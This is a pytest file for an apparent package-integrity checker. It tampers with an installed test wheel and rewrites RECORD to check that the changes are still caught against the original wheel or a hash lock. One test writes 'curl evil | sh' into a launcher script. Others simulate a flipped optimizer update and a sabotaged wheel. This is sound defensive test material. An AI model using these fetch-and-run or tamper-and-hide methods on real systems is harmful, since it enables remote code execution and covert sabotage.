"""``env verify --wheelhouse/--lock``: installed files against the wheels they came from.

An attacker who can edit site-packages can rewrite RECORD to match, and plain
``env verify`` then passes by design.  The wheel does not live on the host.
The tests build a small wheel with ``zipfile`` (a package, a data file, an
entry point and a ``.data/scripts`` script with a ``#!python`` line), let pip
install it offline with ``--prefix`` (a real layout: site-packages, and
scripts in ``bin/`` with rewritten shebangs and generated launchers), then
tamper with random files in random ways, rewriting RECORD each time.  The
seed is printed; ``TG_WHEEL_SEED=N`` replays a run.
"""

from __future__ import annotations

import functools
import hashlib
import os
import random
import shutil
import subprocess
import sys
import sysconfig
import tempfile
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.test_env_support import record_hash
from trainguard.env.verify import EnvOptions, verify_environment
from trainguard.env.wheels import load_reference
from trainguard.findings import Finding, ScanReport, Severity

SEED = int(os.environ.get("TG_WHEEL_SEED") or random.SystemRandom().randrange(2**32))
print(f"test_env_wheelhouse: TG_WHEEL_SEED={SEED}", file=sys.stderr)
NAME, VERSION = "tgref", "1.0"
META = f"{NAME}-{VERSION}.dist-info"
PIP = [sys.executable, "-m", "pip", "install", "--quiet", "--no-index", "--no-deps"]
PIP += ["--disable-pip-version-check"]
OPTIM = (
    "def step(weight, grad, lr=0.1):\n    return weight - lr * grad\n\n\n"
    "def main():\n    return 0\n"
)
TOOL = "#!python\nimport sys\n\nprint('tool', sys.argv[1:])\n"


def wheel_files(optim: str = OPTIM) -> dict[str, bytes]:
    files = {
        f"{NAME}/__init__.py": b'"""tgref: a tiny package for the wheelhouse tests."""\n',
        f"{NAME}/optim.py": optim.encode(),
        f"{NAME}/data.txt": b"weights: 1 2 3\n",
        f"{NAME}-{VERSION}.data/scripts/tgref-tool": TOOL.encode(),
        f"{NAME}-{VERSION}.data/data/share/{NAME}/notes.txt": b"installed under the prefix\n",
        f"{META}/METADATA": f"Metadata-Version: 2.1\nName: {NAME}\nVersion: {VERSION}\n".encode(),
        f"{META}/WHEEL": b"Wheel-Version: 1.0\nGenerator: tests\nRoot-Is-Purelib: true\n"
        b"Tag: py3-none-any\n",
        f"{META}/entry_points.txt": f"[console_scripts]\ntgref = {NAME}.optim:main\n".encode(),
    }
    record = "".join(f"{p},{record_hash(d)},{len(d)}\n" for p, d in files.items())
    files[f"{META}/RECORD"] = (record + f"{META}/RECORD,,\n").encode()
    return files


def write_wheel(folder: Path, files: dict[str, bytes]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    wheel = folder / f"{NAME}-{VERSION}-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w", zipfile.ZIP_DEFLATED) as zf:
        for path, data in files.items():
            zf.writestr(path, data)
    return wheel


def sha256_of(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def site_of(prefix: Path) -> Path:
    rel = os.path.relpath(
        sysconfig.get_path("purelib", vars={"base": "/P", "platbase": "/P"}), "/P"
    )
    return prefix / rel


@functools.lru_cache(maxsize=1)
def _pristine() -> Path:
    base = Path(tempfile.mkdtemp(prefix="tg-wheelhouse-"))
    import atexit

    atexit.register(shutil.rmtree, base, True)
    wheel = write_wheel(base / "wheels", wheel_files())
    subprocess.run(
        [*PIP, "--no-warn-script-location", "--prefix", str(base / "prefix"), str(wheel)],
        check=True,
        capture_output=True,
    )
    return base


@dataclass
class Install:
    prefix: Path
    site: Path
    wheels: Path  # the wheelhouse
    wheel: Path

    def verify(self, *, wheelhouse: bool = True, lock: Path | None = None) -> ScanReport:
        ref = None
        if wheelhouse or lock is not None:
            ref = load_reference(
                [str(self.wheels)] if wheelhouse else [], str(lock) if lock else None
            )
        options = EnvOptions(paths=[str(self.site)], check_pyc=False, reference=ref)
        return verify_environment(options).report

    def rewrite_record(self, path: Path, *, drop: bool = False) -> None:
        """Make RECORD agree with ``path`` as it is now (or forget it): what a careful
        attacker does after an edit."""
        record = self.site / META / "RECORD"
        rel = os.path.relpath(path, self.site)
        rows = [r for r in record.read_text().splitlines() if r.split(",")[0] != rel]
        if not drop and path.exists():
            data = path.read_bytes()
            rows.append(f"{rel},{record_hash(data)},{len(data)}")
        record.write_text("\n".join(rows) + "\n")


@pytest.fixture()
def install(tmp_path: Path) -> Install:
    base = tmp_path / "base"
    shutil.copytree(_pristine(), base, symlinks=True)
    wheel = base / "wheels" / f"{NAME}-{VERSION}-py3-none-any.whl"
    return Install(base / "prefix", site_of(base / "prefix"), base / "wheels", wheel)


def high(report: ScanReport) -> list[Finding]:
    return [f for f in report.findings if f.severity >= Severity.HIGH]


def test_a_clean_install_verifies_against_its_wheel(install: Install, tmp_path: Path) -> None:
    report = install.verify()
    assert not [f for f in report.findings if f.rule.startswith("TG6") and f.rule >= "TG619"]
    assert report.exit_code() == 0, high(report)
    lock = tmp_path / "requirements.txt"
    lock.write_text(f"{NAME}=={VERSION} \\\n    --hash=sha256:{sha256_of(install.wheel)}\n")
    assert install.verify(lock=lock).exit_code() == 0
    pylock = tmp_path / "pylock.toml"
    rel = os.path.relpath(install.wheel, tmp_path)
    pylock.write_text(
        'lock-version = "1.0"\n[[packages]]\n'
        f'name = "{NAME}"\nversion = "{VERSION}"\n'
        f'wheels = [{{ path = "{rel}", hashes = {{ sha256 = "{sha256_of(install.wheel)}" }} }}]\n'
    )
    # pylock.toml names the wheel itself: no wheelhouse needed.
    assert install.verify(wheelhouse=False, lock=pylock).exit_code() == 0


# (file, relative to the prefix) -> rule the wheelhouse check gives after the tamper
TARGETS = {
    "optim": ("site", f"{NAME}/optim.py"),
    "data": ("site", f"{NAME}/data.txt"),
    "metadata": ("site", f"{META}/METADATA"),
    "entry_points": ("site", f"{META}/entry_points.txt"),
    "tool": ("prefix", "bin/tgref-tool"),
    "share": ("prefix", f"share/{NAME}/notes.txt"),
}


def _tamper(install: Install, rng: random.Random) -> tuple[str, str, str]:
    """One random tamper with RECORD rewritten; (what, how, the rule expected)."""
    how = rng.choice(["flip", "append", "same-size", "delete", "add"])
    if how == "add":
        added = install.site / NAME / rng.choice(["_fast.py", "helpers.py", "extra.txt"])
        added.write_text("import os\n")
        install.rewrite_record(added)
        return str(added), how, "TG620"
    what = rng.choice(sorted(TARGETS))
    where, rel = TARGETS[what]
    path = (install.site if where == "site" else install.prefix) / rel
    data = path.read_bytes()
    if how == "flip":
        data = data.replace(b"-", b"+", 1) if b"-" in data else data + b"#"
    elif how == "append":
        data += b"\nimport os  # added\n"
    elif how == "same-size":
        i = rng.randrange(len(data))
        data = data[:i] + bytes([data[i] ^ 0x01]) + data[i + 1 :]
    if how == "delete":
        path.unlink()
        install.rewrite_record(path, drop=True)
        return str(path), how, "TG621"
    st = path.stat()
    path.write_bytes(data)
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))  # the mtime put back too
    install.rewrite_record(path)
    return str(path), how, "TG619"


@pytest.mark.parametrize("case", range(6))
def test_edit_with_rewritten_record_fails_against_the_wheelhouse(
    install: Install, case: int
) -> None:
    rng = random.Random(SEED * 1000 + case)
    path, how, rule = _tamper(install, rng)
    context = f"seed {SEED} case {case}: {how} {path}"
    plain = install.verify(wheelhouse=False)
    if path.endswith("entry_points.txt") and how != "delete":
        # RECORD agrees, but an edit that changes what the entry point names leaves a
        # launcher that is not what an installer writes for it (TG623, without a
        # reference too): that alone may be high.
        assert {f.rule for f in high(plain)} <= {"TG623"}, (context, high(plain))
    else:
        assert plain.exit_code() == 0, (context, high(plain))  # by design: RECORD agrees
    report = install.verify()
    found = [f for f in report.findings if f.rule == rule]
    assert found, (context, report.findings)
    assert report.exit_code() == 1, context
    assert any(
        f.file == path or f.evidence.get("member", "").endswith(os.path.basename(path))
        for f in found
    ), (context, found)


@pytest.mark.parametrize("case", range(3))
def test_a_claim_to_be_editable_exempts_nothing_from_the_wheel(install: Install, case: int) -> None:
    """Red team env_editable_1: after a tamper with RECORD rewritten, direct_url.json
    says editable (with its RECORD row).  The project is in the wheelhouse, so the
    claim is high and the files are still compared with the wheel."""
    rng = random.Random(SEED * 1000 + 100 + case)
    path, how, rule = _tamper(install, rng)
    url = install.site / META / "direct_url.json"
    url.write_text('{"url": "file:///opt/src/tgref", "dir_info": {"editable": true}}')
    install.rewrite_record(url)
    context = f"seed {SEED} case {case}: {how} {path}"
    report = install.verify()
    assert any(f.rule == rule for f in report.findings), (context, report.findings)
    (claim,) = [f for f in report.findings if f.rule == "TG622"]
    assert claim.severity == Severity.HIGH and "editable" in claim.message
    assert not [f for f in report.findings if f.evidence.get("editable")], context
    assert report.exit_code() == 1, context
    # A lock that names the project says the same, with or without the wheelhouse.
    lock = install.prefix.parent / "requirements.txt"
    lock.write_text(f"{NAME}=={VERSION} --hash=sha256:{sha256_of(install.wheel)}\n")
    for wheelhouse in (True, False):
        report = install.verify(wheelhouse=wheelhouse, lock=lock)
        claims = [f for f in report.findings if f.rule == "TG622" and "editable" in f.message]
        assert [f.severity for f in claims] == [Severity.HIGH], (context, report.findings)


@pytest.mark.parametrize(
    "launcher",
    [
        "#!{python}\nimport sys\nimport os\nfrom tgref.optim import main\n"
        "if __name__ == '__main__':\n    os.system('true')\n    sys.exit(main())\n",
        "#!{python}\nimport sys\nfrom tgref.optim import step\n"
        "if __name__ == '__main__':\n    sys.exit(step(1, 2))\n",
        "#!/tmp/elsewhere/bin/python\nimport sys\nfrom tgref.optim import main\n"
        "if __name__ == '__main__':\n    sys.exit(main())\n",
    ],
    ids=["runs-more", "calls-another", "other-interpreter"],
)
def test_launcher_that_does_more_than_call_its_entry_point_fails(
    install: Install, launcher: str
) -> None:
    script = install.prefix / "bin" / NAME
    assert b"from tgref.optim import main" in script.read_bytes()  # pip's own, first
    script.write_text(launcher.format(python=sys.executable))
    install.rewrite_record(script)
    report = install.verify()
    assert [f.file for f in report.findings if f.rule == "TG619"] == [str(script)]
    assert report.exit_code() == 1


def test_lock_file_mismatches_are_high(install: Install, tmp_path: Path) -> None:
    lock = tmp_path / "requirements.txt"
    lock.write_text(f"{NAME}=={VERSION} --hash=sha256:{'0' * 64}\n")
    (found,) = [f for f in install.verify(lock=lock).findings if f.rule == "TG622"]
    assert found.severity == Severity.HIGH and "hash the lock" in found.message
    lock.write_text(f"{NAME}==2.0 --hash=sha256:{sha256_of(install.wheel)}\n")
    (found,) = [f for f in install.verify(lock=lock).findings if f.rule == "TG622"]
    assert found.severity == Severity.HIGH and "pins 2.0" in found.message
    lock.write_text("otherpkg==1.0\n")
    (found,) = [f for f in install.verify(lock=lock).findings if f.rule == "TG622"]
    assert found.severity == Severity.HIGH and "not in the lock" in found.message


def test_a_tampered_wheelhouse_is_refused_by_the_lock(install: Install, tmp_path: Path) -> None:
    """The wheelhouse wheel replaced by a sabotaged build, and the environment installed
    from it: the files match that wheel, but its hash is not the one locked."""
    lock = tmp_path / "requirements.txt"
    lock.write_text(f"{NAME}=={VERSION} --hash=sha256:{sha256_of(install.wheel)}\n")
    evil = write_wheel(tmp_path / "evil", wheel_files(OPTIM.replace("weight - lr", "weight + lr")))
    shutil.copy(evil, install.wheel)
    optim = install.site / NAME / "optim.py"
    optim.write_text(OPTIM.replace("weight - lr", "weight + lr"))
    install.rewrite_record(optim)
    assert install.verify().exit_code() == 0  # the wheelhouse alone was fooled with it
    report = install.verify(lock=lock)
    assert [f.rule for f in high(report)] == ["TG622"]


def test_a_distribution_without_a_wheel_is_reported_not_passed(install: Install) -> None:
    install.wheel.unlink()
    report = install.verify()
    (found,) = [f for f in report.findings if f.rule == "TG622"]
    assert found.severity == Severity.MEDIUM and "were not compared" in found.message


def test_an_unreadable_wheel_is_high(install: Install) -> None:
    install.wheel.write_bytes(b"PK\x03\x04 not really a zip")
    (found,) = [f for f in install.verify().findings if f.rule == "TG622"]
    assert found.severity == Severity.HIGH and "cannot be read" in found.message


def test_the_incident_edit_flipped_update_with_record_rewritten(install: Install) -> None:
    """The optimizer's update flipped and RECORD rewritten: plain verify passes, the
    wheel does not.  The edit is proven to act in a child process (its new mtime makes
    Python recompile rather than load pip's pyc)."""
    optim = install.site / NAME / "optim.py"
    optim.write_text(OPTIM.replace("weight - lr", "weight + lr"))
    os.utime(optim, ns=(optim.stat().st_atime_ns, optim.stat().st_mtime_ns + 10**9))
    install.rewrite_record(optim)
    prog = f"import sys; sys.path.insert(0, {str(install.site)!r}); import tgref.optim as o; "
    prog += "print(o.step(1.0, 1.0))"
    out = subprocess.run([sys.executable, "-S", "-B", "-c", prog], capture_output=True, text=True)
    assert out.stdout.strip() == "1.1"  # the update now goes the wrong way
    assert install.verify(wheelhouse=False).exit_code() == 0
    report = install.verify()
    (found,) = [f for f in report.findings if f.rule == "TG619"]
    assert (found.file, found.severity) == (str(optim), Severity.CRITICAL)
    assert found.evidence["member"] == f"{NAME}/optim.py"
    assert found.evidence["wheel_sha256"] != found.evidence["sha256"]


def test_cli_wheelhouse_and_lock(
    install: Install, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from trainguard.cli.main import main

    lock = tmp_path / "requirements.txt"
    lock.write_text(f"{NAME}=={VERSION} --hash=sha256:{sha256_of(install.wheel)}\n")
    argv = ["env", "verify", "--path", str(install.site), "--no-pyc", "--no-cache"]
    argv += ["--no-progress", "--wheelhouse", str(install.wheels), "--lock", str(lock)]
    assert main(argv) == 0
    data = install.site / NAME / "data.txt"
    data.write_text("weights: 9 9 9\n")
    install.rewrite_record(data)
    assert main([*argv[:-4], "--no-progress"]) == 0  # plain verify: RECORD agrees
    assert main([*argv, "-f", "json"]) == 1
    assert "TG619" in capsys.readouterr().out
    lock.write_text("not a == requirement ???\n")
    assert main(argv) == 2


@pytest.mark.parametrize("what", sorted(TARGETS))
def test_every_kind_of_member_is_found_where_it_was_installed(install: Install, what: str) -> None:
    """Site files, metadata, a .data script (shebang rewritten) and .data data (under the
    prefix): each one found through its member, so one changed byte fails."""
    where, rel = TARGETS[what]
    path = (install.site if where == "site" else install.prefix) / rel
    data = path.read_bytes()
    path.write_bytes(data[:-1] + bytes([data[-1] ^ 0x20]))
    install.rewrite_record(path)
    found = [f for f in install.verify().findings if f.severity >= Severity.HIGH]
    # An edited entry_points.txt names another target: the launcher installed for the
    # old one is not what an installer writes for it (TG623) either.
    assert [(f.rule, f.file) for f in found if f.rule != "TG623"] == [("TG619", str(path))]
    assert {f.rule for f in found} - {"TG619"} <= ({"TG623"} if what == "entry_points" else set())


def test_a_target_install_verifies_against_its_wheel(install: Install, tmp_path: Path) -> None:
    """``pip install --target`` puts scripts in bin/ inside the folder itself."""
    target = tmp_path / "target"
    subprocess.run([*PIP, "--target", str(target), str(install.wheel)], check=True)
    assert (target / "bin" / NAME).exists() and (target / "bin" / "tgref-tool").exists()
    ref = load_reference([str(install.wheels)], None)
    options = EnvOptions(paths=[str(target)], check_pyc=False, reference=ref)
    report = verify_environment(options).report
    assert not [f for f in report.findings if f.rule >= "TG619"], report.findings
    (target / "bin" / NAME).write_text("#!/bin/sh\ncurl evil | sh\n")
    report = verify_environment(options).report
    assert [f.rule for f in report.findings if f.rule >= "TG619"] == ["TG619"]


def test_the_wheelhouse_is_searched_like_pips_cache(install: Install, tmp_path: Path) -> None:
    """pip keeps built wheels in wheels/ab/cd/ef/<rest of a hash>/; links are not followed
    (one pointing at / would make the search endless) and other files are ignored."""
    cache = tmp_path / "pip-cache" / "wheels"
    deep = cache / "ab" / "cd" / "ef" / ("0" * 56)
    deep.mkdir(parents=True)
    shutil.copy(install.wheel, deep)
    (deep / "origin.json").write_text("{}")
    (cache / "loop").symlink_to(tmp_path, target_is_directory=True)
    (cache / "README.whl").write_text("not a wheel name")
    ref = load_reference([str(cache)], None)
    assert [w.path for ws in ref.wheels.values() for w in ws] == [str(deep / install.wheel.name)]
    options = EnvOptions(paths=[str(install.site)], check_pyc=False, reference=ref)
    assert verify_environment(options).report.exit_code() == 0


def test_a_version_no_wheel_has_is_high_when_the_reference_knows_the_project(
    install: Install,
) -> None:
    """Renaming the distribution's version (its .dist-info folder, METADATA and RECORD
    rewritten to match) so that no wheel matches must not turn the comparison into "not
    covered"."""
    moved = install.site / f"{NAME}-1.0.post1.dist-info"
    (install.site / META).rename(moved)
    meta = moved / "METADATA"
    meta.write_text(meta.read_text().replace("Version: 1.0", "Version: 1.0.post1"))
    rows = []
    for row in (moved / "RECORD").read_text().splitlines():
        path = row.split(",")[0].replace(META, moved.name)
        target = install.site / path
        if target.is_file() and path != f"{moved.name}/RECORD":
            data = target.read_bytes()
            row = f"{path},{record_hash(data)},{len(data)}"
        else:
            row = ",".join([path, *row.split(",")[1:]])
        rows.append(row)
    (moved / "RECORD").write_text("\n".join(rows) + "\n")
    assert install.verify(wheelhouse=False).exit_code() == 0  # consistent to RECORD
    (found,) = [f for f in install.verify().findings if f.rule == "TG622"]
    assert found.severity == Severity.HIGH and "holds only 1.0" in found.message


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_a_fifo_where_a_script_was_is_reported_never_waited_on(install: Install) -> None:
    import threading

    for name in (NAME, "tgref-tool"):  # a launcher and a .data script
        script = install.prefix / "bin" / name
        script.unlink()
        os.mkfifo(script)
    result: list[ScanReport] = []
    worker = threading.Thread(target=lambda: result.append(install.verify()), daemon=True)
    worker.start()
    worker.join(60)
    assert not worker.is_alive(), "the verify blocked on a FIFO"
    found = {f.file for f in result[0].findings if f.rule == "TG619"}
    assert found == {str(install.prefix / "bin" / n) for n in (NAME, "tgref-tool")}


def test_a_real_editable_install_of_a_project_the_wheelhouse_lacks_stays_info(
    install: Install, tmp_path: Path
) -> None:
    """No false alarm: ``pip install -e`` of the user's own project writes only metadata
    and a .pth in the site folder; the wheelhouse has no such project."""
    from tests.test_env_plant import _editable_dist

    source = tmp_path / "src"
    (source / "tgedit").mkdir(parents=True)
    _editable_dist(install.site, source)
    report = install.verify()
    assert not high(report), high(report)
    (info,) = [f for f in report.findings if f.evidence.get("editable")]
    assert (info.rule, info.severity) == ("TG613", Severity.INFO)
